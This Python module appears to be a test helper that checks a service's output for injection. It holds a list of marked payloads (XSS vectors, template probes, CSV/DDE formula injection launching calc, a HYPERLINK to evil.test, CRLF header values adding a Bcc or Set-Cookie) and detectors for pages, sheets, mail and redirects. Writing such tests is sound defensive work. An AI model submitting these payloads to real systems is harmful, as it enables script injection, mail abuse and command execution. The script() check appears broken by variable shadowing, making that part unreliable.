"""What it means that something hostile does nothing: by kind of what is handed out."""

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator, Mapping
from email import message_from_bytes
from email.policy import default
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urljoin, urlsplit

# Every payload carries it, so that what is looked at is known to be ours.
MARK = "zqx"
PAYLOADS = {
    "script": f"<script>{MARK}(1)</script>",
    "attribute": f'"><img src={MARK} onerror={MARK}(2)>',
    "apostrophe": f"' onmouseover='{MARK}(3)",
    "svg": f"<svg/onload={MARK}(4)>",
    "end of a text": f"</textarea></title></style></script><script>{MARK}(5)</script>",
    "end of a comment": f"--><script>{MARK}(6)</script>",
    "address": f"javascript:{MARK}(7)",
    "data": f"data:text/html,<script>{MARK}(8)</script>",
    "template": f"{{{{7*7}}}}{MARK}{{% for x in y %}}",
    "format": f"{{0.__class__}}{MARK}%s%n",
    "formula": f'=HYPERLINK("http://evil.test/{MARK}","{MARK}")',
    "command": f"+{MARK}|' /C calc'!A0",
    "minus": f"-2+3+cmd|'{MARK}'!A0",
    "at": f"@SUM({MARK})",
    "tab": f"\t={MARK}",
    "quoted": f"'={MARK}",
    "header": f"{MARK}\r\nBcc: {MARK}@evil.test\r\n\r\n<b>body",
    "encoded": f"{MARK}%0d%0aSet-Cookie:{MARK}=1",
    "separator": f"{MARK}\u2028alert(9)\u2029",
}
_RUNS = ("script", "style", "iframe", "object", "embed", "base", "meta", "link", "svg")
_ADDRESSES = ("href", "src", "action", "formaction", "xlink:href", "data", "poster")
# Where a page of ours holds data for a script of ours: parsed as JSON, never run.
_DATA = ("application/json", "application/ld+json")
_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Page(HTMLParser):
    """Collects what of a page would do something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        self.inside = tag if given.get("type") not in _DATA else ""
        for name, value in attrs:
            text = (value or "").strip().lower()
            if name.startswith("on") or name == "srcdoc":
                self.found.append(f"<{tag} {name}={value}>")
            if (
                name in _ADDRESSES
                and MARK in text
                and re.match(r"(javascript|data|vbscript):", text)
            ):
                self.found.append(f"<{tag} {name}={value}>")
            if MARK in name or (tag in _RUNS and MARK in text and tag != "meta"):
                self.found.append(f"<{tag} {name}={value}>")
        if tag == "img" and given.get("src") == MARK:
            self.found.append("<img>")
        # A page of ours may show itself again; none leads elsewhere by itself.
        again = re.fullmatch(r"[0-9]{1,4}", given.get("content") or "")
        if tag == "meta" and (given.get("http-equiv") or "").lower() == "refresh" and not again:
            self.found.append("<meta refresh>")

    def handle_data(self, data: str) -> None:
        if self.inside in ("script", "style") and MARK in data:
            self.found.append(f"{self.inside}: {data}")

    def handle_endtag(self, tag: str) -> None:
        self.inside = "" if tag in ("script", "style") else self.inside


def page(html: str) -> list[str]:
    """What of a page does something; a template's sum that was worked out is one."""
    seen = _Page()
    seen.feed(html)
    seen.close()
    return seen.found + [f"49{MARK}"] * (f"49{MARK}" in html)


def script(text: str) -> list[str]:
    """Where a script of ours holds a payload otherwise than inside a string of JSON."""
    bare = re.sub(r'"(?:[^"\\\n\u2028\u2029]|\\.)*"', '""', text)
    found = [line for line in bare.splitlines() if MARK in line]
    return found + [text for text in ("</script", "<!--") if text in text_of_strings(text)]


def text_of_strings(text: str) -> str:
    """All strings of a script, as they stand there."""
    return "".join(re.findall(r'"(?:[^"\\\n]|\\.)*"', text)).lower()


def sheet(text: str, delimiter: str = ",") -> list[str]:
    """The cells of a CSV that a spreadsheet would run."""
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row if MARK in cell and cell.startswith(_STARTS)]


def workbook(body: bytes) -> list[str]:
    """What of a workbook is a formula, a link, or comes from elsewhere."""
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        parts = {name: book.read(name).decode("utf-8", "replace") for name in book.namelist()}
    found = [f"{name}: a formula" for name, text in parts.items() if re.search(r"<f[ >]", text)]
    found += [f"{name}: a link" for name, text in parts.items() if "<hyperlink" in text]
    for name, text in parts.items():
        if name.endswith(".rels") and ('TargetMode="External"' in text or MARK in text):
            found.append(f"{name}: from elsewhere")
    return found


def lines(body: bytes) -> list[str]:
    """The lines of a JSON-lines file that are not one object each."""
    found = []
    for line in body.decode().split("\n"):
        try:
            ok = not line or isinstance(json.loads(line), dict)
        except ValueError:
            ok = False
        if not ok:
            found.append(line[:100])
    return found


def mail(raw: bytes) -> list[str]:
    """What of a mail does something: a header that came in by a value, or its page."""
    message: Any = message_from_bytes(raw, policy=default)
    known = {
        "from", "to", "subject", "reply-to", "auto-submitted", "mime-version", "message-id",
        "content-type", "content-transfer-encoding", "list-unsubscribe", "list-unsubscribe-post",
    }  # fmt: skip
    found = [name for name in message if name.lower() not in known]
    found += [f"to {each}" for each in (message["To"], message["Reply-To"]) if "evil" in str(each)]
    for part in message.walk():
        if part.get_content_type() == "text/html":
            found += page(part.get_content())
    return found


def headers(held: Mapping[str, str]) -> list[str]:
    """The headers of an answer that break out of theirs, or lead away."""
    found = [f"{n}: {v!r}" for n, v in held.items() if re.search(r"[\r\n\x00]", n + str(v))]
    place = {name.lower(): value for name, value in held.items()}.get("location", "")
    if re.match(r"\s*(javascript|data|vbscript):", place, re.IGNORECASE) or _leads_away(place):
        found.append(f"Location: {place}")
    return found


def _leads_away(place: str) -> bool:
    """Whether a browser that is with us ends up at the payloads' host; `\\` is `/` to it."""
    there = urljoin("https://inlet.test/console/x", place.strip().replace("\\", "/"))
    return "evil.test" in urlsplit(there).netloc


def strings(held: Any) -> Iterator[str]:
    """Every text of some JSON."""
    if isinstance(held, str):
        yield held
    elif isinstance(held, Mapping):
        for name, each in held.items():
            yield name
            yield from strings(each)
    elif isinstance(held, list):
        for each in held:
            yield from strings(each)
